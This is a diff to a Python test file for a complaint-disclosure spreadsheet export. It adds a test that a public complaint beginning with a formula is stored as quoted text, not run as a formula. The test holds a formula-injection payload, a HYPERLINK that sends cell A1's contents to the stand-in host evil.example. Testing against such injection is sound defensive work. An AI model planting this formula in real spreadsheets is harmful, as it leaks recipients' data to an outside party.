@@ -31,7 +31,7 @@ def sheet(rows):
 
 
 def rows_of(buffer):
-    from organisations.workflow import read_sheet
+    from ducha.spreadsheets import read_sheet
 
     return list(read_sheet(buffer, required=("行政区域",)))
 
@@ -139,3 +139,25 @@ def test_stats_command_prints_the_named_keys(cast, register, walk, inspection):
         1,
         200000,
     )
+
+
+def test_text_that_looks_like_a_formula_goes_out_as_text(cast, register, walk, inspection):
+    """A member of the public types `=HYPERLINK(...)`; the disclosure table shows it, never runs it."""
+    attack = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看详情")'
+    complaint = walk(register(attack + "，信都区某厂排污"), "closed")
+    workflow.publish_batch(complaint.batch, by=cast.office)
+    buffer = io.BytesIO()
+    write_disclosure(inspection, buffer, batch=1)
+    buffer.seek(0)
+    cell = load_workbook(buffer).active["C3"]
+    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")
+    assert cell.quotePrefix
+    buffer.seek(0)
+    assert b"<f>" not in _sheet_xml(buffer)
+
+
+def _sheet_xml(buffer) -> bytes:
+    import zipfile
+
+    with zipfile.ZipFile(buffer) as archive:
+        return archive.read("xl/worksheets/sheet1.xml")
